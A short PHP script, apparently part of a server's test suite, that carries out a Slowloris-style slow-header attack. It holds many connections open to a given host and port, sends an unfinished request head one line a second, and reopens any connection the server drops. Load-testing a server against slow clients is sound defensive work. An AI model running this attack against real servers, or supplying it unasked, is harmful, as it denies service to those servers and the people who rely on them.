<?php

declare(strict_types=1);

/*
 * tests/slow-clients/run: an attacker's slow connections (run as uid 65534). Keeps N
 * connections open to HOST:PORT, each sending a request head one line a second and never
 * finishing it; a connection the server closed is opened again. Runs for SECONDS. Prints
 * "opened N" (connections opened in all) at the end.
 *
 *   php slowloris.php HOST PORT N SECONDS [FROM]
 * FROM: the local address to connect from (default: the kernel's choice).
 */

[, $host, $port, $n, $seconds, $from] = $argv + [5 => null];
$context = stream_context_create($from === null ? [] : ['socket' => ['bindto' => "$from:0"]]);
$n = (int) $n;
$end = microtime(true) + (int) $seconds;
$open = static function () use ($host, $port, $context) {
    $s = @stream_socket_client("tcp://$host:$port", $errno, $error, 1,
        STREAM_CLIENT_CONNECT | STREAM_CLIENT_ASYNC_CONNECT, $context);
    if ($s !== false) {
        stream_set_blocking($s, false);
        @fwrite($s, "GET /metrics HTTP/1.1\r\n");
    }
    return $s;
};
$sockets = [];
$opened = 0;
for ($i = 0; $i < $n; $i++) {
    $sockets[$i] = $open();
    $opened++;
}
$line = 0;
while (microtime(true) < $end) {
    $line++;
    foreach ($sockets as $i => $s) {
        // A closed connection (written to in vain, or at EOF) is opened again.
        if ($s === false || @fwrite($s, "X-Slow-$line: 1\r\n") === false || feof($s)) {
            if ($s !== false) {
                @fclose($s);
            }
            $sockets[$i] = $open();
            $opened++;
        } else {
            @fread($s, 4096); // drop whatever the server answered (a 408)
        }
    }
    usleep(1000000);
}
echo "opened $opened\n";
